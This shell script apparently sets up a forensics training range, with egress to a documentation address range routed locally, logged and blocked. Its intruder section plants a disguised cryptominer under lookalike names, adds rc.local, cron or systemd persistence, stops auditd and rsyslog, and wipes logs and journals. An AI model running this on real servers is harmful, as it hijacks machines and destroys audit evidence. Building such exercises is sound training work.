# This machine is the intruder's, and the gateway too: a range has two machines at a time.
ip route add local 198.51.100.0/24 dev lo
nft add table inet gateway
nft add chain inet gateway input '{ type filter hook input priority 0; }'
nft add rule inet gateway input ip daddr 198.51.100.0/24 tcp dport 80 log prefix '"egress-blocked: "' drop

# shellcheck disable=SC2086 # several names
on_server "$PASSWORD" "cat >/tmp/.in && chmod 755 /tmp/.in" </run/payload/miner
on_server "$PASSWORD" bash -s <<END
set -e
for name in $ONE $TWO; do (cat /tmp/.in; echo \$name) >/boot/\$name; chmod 755 /boot/\$name; done
i=0
for name in $LOOKALIKES; do
    i=\$((i + 1))
    (cat /tmp/.in; echo \$name) >$HIDE/\$name
    chmod 755 $HIDE/\$name
    $HIDE/\$name -B -q -o $STRATUM://198.51.100.$NET:80 -u 44wallet
    $HIDE/\$name -B -q -o $STRATUM://198.51.100.\$(($NET + i)):80 -u 44wallet
done
/boot/$ONE -B -q -n 40 -o $STRATUM://198.51.100.$NET:80 -u 44wallet
case $START in
rc.local) printf '#!/bin/sh\n/boot/$ONE -B -q -o $STRATUM://198.51.100.$NET:80\n' >/etc/rc.local; chmod 755 /etc/rc.local ;;
cron) echo '@reboot root /boot/$ONE -B -q -o $STRATUM://198.51.100.$NET:80' >/etc/cron.d/$UNIT ;;
unit) printf '[Service]\nType=forking\nExecStart=/boot/$ONE -B -q -o $STRATUM://198.51.100.$NET:80\n[Install]\nWantedBy=multi-user.target\n' >/etc/systemd/system/$UNIT.service
    systemctl enable --quiet $UNIT ;;
esac
rm /tmp/.in
systemctl stop rsyslog auditd 2>/dev/null || service auditd stop
find /var/log -type f -exec truncate -s 0 {} +
rm -rf /var/log/journal /run/log/journal
END
mkdir -p /srv/handed
sleep 25
journalctl -k -o short --no-pager | grep egress-blocked >/srv/handed/kern.log
serve handed python3 -m http.server 8080 --directory /srv/handed
